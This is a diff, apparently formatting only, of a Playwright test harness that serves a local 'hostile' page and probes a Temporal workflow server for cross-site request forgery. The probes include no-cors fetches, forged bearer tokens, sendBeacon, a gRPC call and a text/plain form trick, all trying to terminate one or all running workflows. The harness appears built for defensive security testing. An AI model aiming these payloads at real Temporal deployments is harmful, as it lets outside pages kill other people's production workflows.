@@ -9,10 +9,15 @@ const { ports, runId, address, chromiumProgram } = JSON.parse(process.argv[2] ??
 const PAGE_TIMEOUT_MS = 60_000;
 const ATTACK_LIMIT_MS = 3_000;
 
-const hostile = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<title>hostile</title><body>'));
+const hostile = createServer((_request, response) =>
+  response.writeHead(200, { 'content-type': 'text/html' }).end('<title>hostile</title><body>'),
+);
 await new Promise((resolve) => hostile.listen(0, '127.0.0.1', resolve));
 const pagePort = hostile.address().port;
-const browser = await chromium.launch({ executablePath: chromiumProgram, args: ['--no-sandbox', '--host-resolver-rules=MAP *.test 127.0.0.1'] });
+const browser = await chromium.launch({
+  executablePath: chromiumProgram,
+  args: ['--no-sandbox', '--host-resolver-rules=MAP *.test 127.0.0.1'],
+});
 const report = { entered: [], learned: [], shown: '', signalled: [] };
 try {
   const context = await browser.newContext({ viewport: { width: 1500, height: 1100 } });
@@ -47,7 +52,11 @@ async function tryEverything({ at, id, limitMs }) {
   const end = `${base}/workflows/${encodeURIComponent(id)}/terminate`;
   const all = `${base}/batch-operations/job-${Math.random()}`;
   const reason = JSON.stringify({ reason: 'pwned' });
-  const ofAll = JSON.stringify({ reason: 'pwned', visibilityQuery: 'ExecutionStatus="Running"', terminationOperation: { identity: 'evil' } });
+  const ofAll = JSON.stringify({
+    reason: 'pwned',
+    visibilityQuery: 'ExecutionStatus="Running"',
+    terminationOperation: { identity: 'evil' },
+  });
   const learned = [];
   const send = async (name, url, init) => {
     try {
@@ -59,16 +68,30 @@ async function tryEverything({ at, id, limitMs }) {
   };
   await send('blind end', end, { method: 'POST', mode: 'no-cors', body: reason });
   await send('blind end of all', all, { method: 'POST', mode: 'no-cors', body: ofAll });
-  await send('end with a token', end, { method: 'POST', headers: { authorization: 'Bearer x', 'content-type': 'application/json' }, body: reason });
-  await send('end of all with a token', all, { method: 'POST', headers: { authorization: 'Bearer x', 'content-type': 'application/json' }, body: ofAll });
+  await send('end with a token', end, {
+    method: 'POST',
+    headers: { authorization: 'Bearer x', 'content-type': 'application/json' },
+    body: reason,
+  });
+  await send('end of all with a token', all, {
+    method: 'POST',
+    headers: { authorization: 'Bearer x', 'content-type': 'application/json' },
+    body: ofAll,
+  });
   await send('read', `${base}/workflows`, {});
-  await send('call of gRPC', `http://${at}/temporal.api.workflowservice.v1.WorkflowService/StartBatchOperation`, { method: 'POST', mode: 'no-cors', body: new Blob([new Uint8Array(9)], { type: 'text/plain' }) });
+  await send('call of gRPC', `http://${at}/temporal.api.workflowservice.v1.WorkflowService/StartBatchOperation`, {
+    method: 'POST',
+    mode: 'no-cors',
+    body: new Blob([new Uint8Array(9)], { type: 'text/plain' }),
+  });
   navigator.sendBeacon(all, ofAll);
   const form = Object.assign(document.createElement('form'), { method: 'POST', action: end, enctype: 'text/plain', target: 'frame' });
   form.append(Object.assign(document.createElement('input'), { name: '{"reason":"x', value: '"}' }));
   document.body.append(Object.assign(document.createElement('iframe'), { name: 'frame' }), form);
   form.submit();
-  await new Promise((resolve) => { setTimeout(resolve, 500); });
+  await new Promise((resolve) => {
+    setTimeout(resolve, 500);
+  });
   return learned;
 }
 
@@ -81,13 +104,20 @@ async function lookAndSignal(person) {
   report.shown = await person.innerText('body');
   for (const signal of ['pause', 'resume', 'cancel']) {
     await person.getByText('More Actions').filter({ visible: true }).first().click();
-    await person.getByText(/send a signal/iu).filter({ visible: true }).first().click();
+    await person
+      .getByText(/send a signal/iu)
+      .filter({ visible: true })
+      .first()
+      .click();
     const dialog = person.getByRole('dialog');
     // The Web UI asks the workflow for its signals and offers them; the input below the button is only the form's.
     await dialog.locator('#signal-select').locator('xpath=ancestor::*[.//button][1]').locator('button').first().click();
     await person.getByRole('option', { name: signal, exact: true }).first().click();
     const sent = person.waitForResponse((response) => response.request().method() === 'POST' && response.url().includes('/signal'));
-    await dialog.getByRole('button', { name: /submit|send|confirm/iu }).last().click();
+    await dialog
+      .getByRole('button', { name: /submit|send|confirm/iu })
+      .last()
+      .click();
     report.signalled.push(`${signal} ${(await sent).status()}`);
     await dialog.waitFor({ state: 'hidden' });
   }
